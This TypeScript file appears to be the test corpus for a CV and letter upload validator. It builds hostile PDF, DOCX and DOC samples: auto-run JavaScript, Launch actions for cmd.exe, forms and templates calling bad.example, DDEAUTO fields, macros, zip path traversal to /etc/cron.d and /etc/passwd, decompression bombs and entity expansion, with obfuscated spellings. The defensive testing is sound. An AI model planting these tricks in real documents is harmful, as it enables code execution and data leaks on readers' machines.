import { deflateSync } from 'node:zlib'
import { compoundFile, wordStream } from '#server/platform/media/corpus/doc-file'
import { documentOf, docxFile, relation, relations } from '#server/platform/media/corpus/docx-file'
import { packedObject, pdfFile } from '#server/platform/media/corpus/pdf-file'
import { jpeg } from '#server/platform/media/corpus/pictures'
import { oversized, samplesOf, type Good, type Hostile } from '#server/platform/media/corpus/sample'
import { zipFile } from '#server/platform/media/corpus/zip-file'

const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
const pdf = samplesOf('document', 'application/pdf', 'cv.pdf')
const docx = samplesOf('document', word, 'cv.docx')
const doc = samplesOf('document', 'application/msword', 'cv.doc')

const MACRO_TYPE = 'application/vnd.ms-word.document.macroEnabled.main+xml'
const SCRIPT = '/S /JavaScript /JS (app.alert\\(1\\))'
const flate = (data: Buffer, dictionary: string): Buffer =>
  Buffer.concat([Buffer.from(`<<${dictionary} /Filter /FlateDecode /Length ${data.length}>>\nstream\n`), data, Buffer.from('\nendstream')])
const megabytes = (count: number): Buffer => Buffer.alloc(count * 1024 * 1024, ' ')

const hostilePdfs: readonly Hostile[] = [
  pdf.hostile('a page that is called a CV', 'not_what_it_says', () => Buffer.from('<html><script>alert(1)</script></html>')),
  pdf.hostile('a photo that is called a PDF', 'not_what_it_says', () => jpeg()),
  pdf.hostile('a PDF behind a page', 'not_what_it_says', () => Buffer.concat([Buffer.from('<script>alert(1)</script>\n'), pdfFile()])),
  pdf.hostile('a script on opening', 'active_content', () => pdfFile({ catalog: `/OpenAction <<${SCRIPT}>>` })),
  pdf.hostile('a script by another spelling', 'active_content', () => pdfFile({ extra: ['<</S /Java#53cript /#4aS (1)>>'] })),
  pdf.hostile('a script in an object stream', 'active_content', () => pdfFile({ extra: [packedObject(`<<${SCRIPT}>>`)] })),
  pdf.hostile('a script in a broken object', 'active_content', () => pdfFile({ extra: [`<</X endobj ] /Y ) ${SCRIPT} /Z`] })),
  pdf.hostile('a script inside the stream of another object', 'active_content', () =>
    pdfFile({ extra: [`<</Length 60>>\nstream\n9 0 obj <<${SCRIPT}>> endobj\nendstream`] }),
  ),
  pdf.hostile('a program to start', 'active_content', () => pdfFile({ catalog: '/OpenAction <</S /Launch /F (cmd.exe)>>' })),
  pdf.hostile('an address to open on opening', 'active_content', () =>
    pdfFile({ catalog: '/OpenAction 5 0 R', extra: ['<</S /URI /URI (https://bad.example)>>'] }),
  ),
  pdf.hostile('an address to open after going to a page', 'active_content', () =>
    pdfFile({ catalog: '/OpenAction <</S /GoTo /D [3 0 R /Fit] /Next 5 0 R>>', extra: ['<</S /URI /URI (https://bad.example)>>'] }),
  ),
  pdf.hostile('a carried file', 'active_content', () =>
    pdfFile({ catalog: '/Names <</EmbeddedFiles <</Names [(a.exe) 5 0 R]>>>>', extra: ['<</Type /Filespec /F (a.exe)>>'] }),
  ),
  pdf.hostile('a form that sends itself', 'active_content', () => pdfFile({ extra: ['<</S /SubmitForm /F (https://bad.example)>>'] })),
  pdf.hostile('a form of another kind inside', 'active_content', () =>
    pdfFile({ catalog: '/AcroForm <</XFA [(x) 5 0 R]>>', extra: ['null'] }),
  ),
  pdf.hostile('an archive behind the PDF', 'active_content', () =>
    Buffer.concat([pdfFile(), zipFile([{ name: 'run.js', data: 'alert(1)' }])]),
  ),
  pdf.hostile('a PDF with a password', 'encrypted', () =>
    pdfFile({ trailer: '/Encrypt 5 0 R', extra: ['<</Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4>>'] }),
  ),
  pdf.hostile('a bomb in an object stream', 'too_complex', () =>
    pdfFile({ extra: [flate(deflateSync(megabytes(80)), '/Type /ObjStm /N 1 /First 5')] }),
  ),
  pdf.hostile('a bomb in a bomb', 'unreadable', () => {
    const twice = deflateSync(deflateSync(megabytes(80)))
    const head = `<</Type /ObjStm /N 1 /First 5 /Filter [/FlateDecode /FlateDecode] /Length ${twice.length}>>\nstream\n`
    return pdfFile({ extra: [Buffer.concat([Buffer.from(head), twice, Buffer.from('\nendstream')])] })
  }),
  pdf.hostile('lists in lists without end', 'unreadable', () => pdfFile({ catalog: `/Deep ${'['.repeat(200_000)}` })),
  pdf.hostile('a PDF cut off in the middle', 'unreadable', () => pdfFile().subarray(0, 200)),
  pdf.hostile('a PDF without pages', 'unreadable', () => Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n')),
  pdf.hostile('a PDF beyond the limit', 'wrong_size', () => oversized('document', pdfFile())),
]

const hostileDocx: readonly Hostile[] = [
  docx.hostile('an archive that is called a letter', 'not_what_it_says', () => zipFile([{ name: 'run.js', data: 'alert(1)' }])),
  docx.hostile('a PDF that is called a letter', 'not_what_it_says', () => pdfFile()),
  docx.hostile('an archive of files that lead out', 'unreadable', () => docxFile({ extra: [{ name: '../../etc/cron.d/x', data: 'x' }] })),
  docx.hostile('an archive with a file from the root', 'unreadable', () => docxFile({ extra: [{ name: '/etc/passwd', data: 'x' }] })),
  docx.hostile('a file of two names', 'unreadable', () =>
    docxFile({ extra: [{ name: 'word/a.xml', localName: 'word/b.xml', data: '<a/>' }] }),
  ),
  docx.hostile('two files of one name', 'unreadable', () => docxFile({ extra: [{ name: 'Word/Document.xml', data: documentOf('') }] })),
  docx.hostile('a file that is larger than it says', 'unreadable', () =>
    docxFile({ extra: [{ name: 'word/big.xml', data: megabytes(5), saidSize: 10 }] }),
  ),
  docx.hostile('a bomb that says its size', 'too_complex', () => docxFile({ extra: [{ name: 'word/big.xml', data: megabytes(120) }] })),
  docx.hostile('far more than is packed', 'too_complex', () => docxFile({ extra: [{ name: 'word/big.xml', data: megabytes(20) }] })),
  docx.hostile('three thousand files', 'too_complex', () =>
    docxFile({ extra: Array.from({ length: 3000 }, (_, index) => ({ name: `word/${index}.xml`, data: '<a/>' })) }),
  ),
  docx.hostile('an archive with a password', 'encrypted', () =>
    docxFile({ extra: [{ name: 'word/a.xml', data: '<a/>', isEncrypted: true }] }),
  ),
  docx.hostile('a letter with a password', 'encrypted', () =>
    compoundFile({ '/EncryptionInfo': Buffer.alloc(64, 4), '/EncryptedPackage': Buffer.alloc(5000, 9) }),
  ),
  docx.hostile('macros by their part', 'active_content', () => docxFile({ extra: [{ name: 'word/vbaProject.bin', data: 'x' }] })),
  docx.hostile('macros by their type', 'active_content', () => docxFile({ mainType: MACRO_TYPE })),
  docx.hostile('macros by their relation', 'active_content', () =>
    docxFile({
      links: relations(
        '<Relationship Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="plain.bin"/>',
      ),
      extra: [{ name: 'word/plain.bin', data: 'x' }],
    }),
  ),
  docx.hostile('a template from elsewhere', 'active_content', () =>
    docxFile({ links: relation('attachedTemplate', 'https://bad.example/t.dotm', 'TargetMode="External"') }),
  ),
  docx.hostile('a template from elsewhere, in other letters', 'active_content', () =>
    docxFile({ links: relation('attachedTemplate', 'https://bad.example/t.dotm', 'TargetMode="&#69;xternal" x:TargetMode="Internal"') }),
  ),
  docx.hostile('a picture from elsewhere', 'active_content', () =>
    docxFile({ links: relation('image', 'https://bad.example/pixel.png', 'TargetMode="External"') }),
  ),
  docx.hostile('an object of another program', 'active_content', () => docxFile({ links: relation('ole&#79;bject', 'plain.bin') })),
  docx.hostile('a field that starts a program', 'active_content', () =>
    docxFile({ document: documentOf('<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\cmd.exe</w:instrText></w:r>') }),
  ),
  docx.hostile('entities that grow', 'unreadable', () =>
    docxFile({ document: `<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]>${documentOf('&c;')}` }),
  ),
  docx.hostile('a letter cut off in the middle', 'unreadable', () => docxFile().subarray(0, 600)),
]

const hostileDocs: readonly Hostile[] = [
  doc.hostile('a page that is called a letter', 'not_what_it_says', () => Buffer.from('<html><script>alert(1)</script></html>')),
  doc.hostile('a workbook that is called a letter', 'not_what_it_says', () => compoundFile({ '/Workbook': Buffer.alloc(5000) })),
  doc.hostile('an old letter with macros', 'active_content', () =>
    compoundFile({ '/WordDocument': wordStream(), '/Macros/VBA/ThisDocument': Buffer.from('Sub AutoOpen()') }),
  ),
  doc.hostile('an old letter with a program inside', 'active_content', () =>
    compoundFile({ '/WordDocument': wordStream(), '/ObjectPool/_1/\u0001Ole10Native': Buffer.from('MZ') }),
  ),
  doc.hostile('an old letter with a password', 'encrypted', () => compoundFile({ '/WordDocument': wordStream(0x0100) })),
  doc.hostile('an old letter of noise', 'unreadable', () => compoundFile({ '/WordDocument': Buffer.alloc(4096, 0x41) })),
  doc.hostile('an old letter cut off in its head', 'unreadable', () => compoundFile({ '/WordDocument': wordStream() }).subarray(0, 400)),
]

export const hostilePapers: readonly Hostile[] = [...hostilePdfs, ...hostileDocx, ...hostileDocs]

export const goodPapers: readonly Good[] = [
  pdf.good('a CV', () => pdfFile()),
  pdf.good('a CV that opens at a place, with a link', () =>
    pdfFile({
      catalog: '/OpenAction 5 0 R',
      extra: ['<</S /GoTo /D [3 0 R /Fit]>>', '<</Type /Annot /Subtype /Link /A <</S /URI /URI (https://ada.example/JS/Launch)>>>>'],
    }),
  ),
  pdf.good('a CV with packed objects', () => pdfFile({ extra: [packedObject('<</Title (What /JavaScript is)>>')] })),
  docx.good('a letter with a link', () => docxFile()),
  doc.good('an old letter', () => compoundFile({ '/WordDocument': wordStream(), '/1Table': Buffer.alloc(5000) })),
]
